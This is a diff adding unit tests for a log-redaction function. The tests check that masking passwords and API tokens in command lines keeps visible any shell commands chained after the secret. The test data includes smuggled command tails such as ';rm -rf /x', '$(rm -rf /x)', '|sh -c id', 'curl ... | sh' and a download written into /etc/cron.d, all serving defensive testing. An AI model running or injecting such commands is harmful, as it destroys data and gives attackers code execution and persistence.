@@ -13,6 +13,7 @@ import { maskSnapshot, type ClusterSnapshot } from '../lib/self/cluster-snapshot
 import { createLogger, redact } from '../lib/log.ts';
 import secretParams from '../lib/policy/secret-params.json' with { type: 'json' };
 import { commandCases } from './helpers/secret-cases.ts';
+import { shellControls } from '../lib/approval/gate.ts';
 
 
 /** Text that must come through unchanged (no false alarm on everyday commands). */
@@ -72,6 +73,77 @@ describe('command-line patterns', () => {
     const out = redact(line);
     expect(out).toContain('6f1c2b7e-1111-4222-8333-944445555666');
     expect(out).not.toContain('EscapedJsonPw');
+  });
+});
+
+describe('a mask never hides the commands around a secret (issue 13 red team)', () => {
+  // `curl -H X-API-Key:abc;rm -rf /x` was stored as `curl -H X-API-Key:[redacted]`: the rm was gone.
+  const S = 'Qz7SecretVal';
+  const carriers = [
+    `curl -u admin:${S}`,
+    `curl -H X-API-Key:${S}`,
+    `sshpass -p ${S}`,
+    `mysql -p${S}`,
+    `mysql --password=${S}`,
+    `smbclient //nas/s -U u%${S}`,
+    `git clone https://u:${S}@git.example/x`,
+    `curl -H Authorization:PVEAPIToken=root@pam!mcp=${S}`,
+    `curl -H 'Authorization: PVEAPIToken=root@pam!mcp=${S}'`,
+    `pveum user add bob@pve --password ${S}`,
+    `tool --db-pass=${S}`,
+    `mount -o username=u,password=${S}`,
+    `PGPASSWORD=${S}`,
+  ];
+  const followers = [';rm -rf /x', '&&rm -rf /x', '|sh -c id', '$(id)', '`id`', '>/etc/x', '\nrm -rf /x', ' http://192.0.2.1/x --output /etc/cron.d/x', '<(id)', '||(id)'];
+  for (const carrier of carriers) {
+    for (const follower of followers) {
+      const line = carrier + follower;
+      it(`${JSON.stringify(line).slice(0, 80)}`, () => {
+        const out = redactText(line);
+        expect(out).not.toContain(S);
+        expect(out).toContain('[redacted]');
+        expect(out).toContain(follower);
+        // exact: every control character, quote, escape and word break is still where it was
+        expect(shellControls(out)).toBe(shellControls(line));
+        // and again on text that was masked already (logs mask fields, then the whole line)
+        expect(redactText(out)).toBe(out);
+      });
+    }
+  }
+
+  it('a secret in quotes ends at its closing quote, and may hold control characters', () => {
+    for (const [line, secret, follower] of [
+      [`curl -u 'u:a;b|c d' http://x | sh`, 'a;b|c d', ' http://x | sh'],
+      [`curl -H "X-API-Key: k;e y" http://x;id`, 'k;e y', ' http://x;id'],
+      [`sshpass -p 'p w;x' ssh h;id`, 'p w;x', ' ssh h;id'],
+      [`mysql --password='p;w' db&&id`, 'p;w', ' db&&id'],
+    ] as const) {
+      const out = redactText(line);
+      expect(out, line).not.toContain(secret);
+      expect(out, line).toContain(follower);
+    }
+    // inside double quotes the shell still runs $( ) and backquotes: those stay visible
+    const sub = redactText('curl -H "X-API-Key: abc$(rm -rf /x)" http://x');
+    expect(sub).not.toContain('abc');
+    expect(sub).toContain('$(rm -rf /x)');
+    expect(redactText('curl -u "user:x`id`y" http://x')).toContain('`id`');
+  });
+
+  it('a glued quoted part and escapes belong to the secret; an unclosed apostrophe does not swallow the rest', () => {
+    const glued = redactText("curl -u u:ab'c d'e http://x;id");
+    expect(glued).not.toMatch(/ab|c d/);
+    expect(glued).toContain(' http://x;id');
+    expect(redactText('curl -u u:a\\;b http://x')).not.toContain(';b');
+    const prose = redactText("can't reach it: curl -u admin:Pw9xyz;rm -rf /x");
+    expect(prose).not.toContain('Pw9xyz');
+    expect(prose).toContain(';rm -rf /x');
+  });
+
+  it('a header scheme stays and the credential after it goes, also in free text', () => {
+    const out = redactText('upstream said: Authorization: Basic dXNlcjpwYXNzd29yZA== then 401');
+    expect(out).not.toContain('dXNlcjpwYXNzd29yZA');
+    expect(out).toContain('Basic');
+    expect(out).toContain('then 401');
   });
 });
 
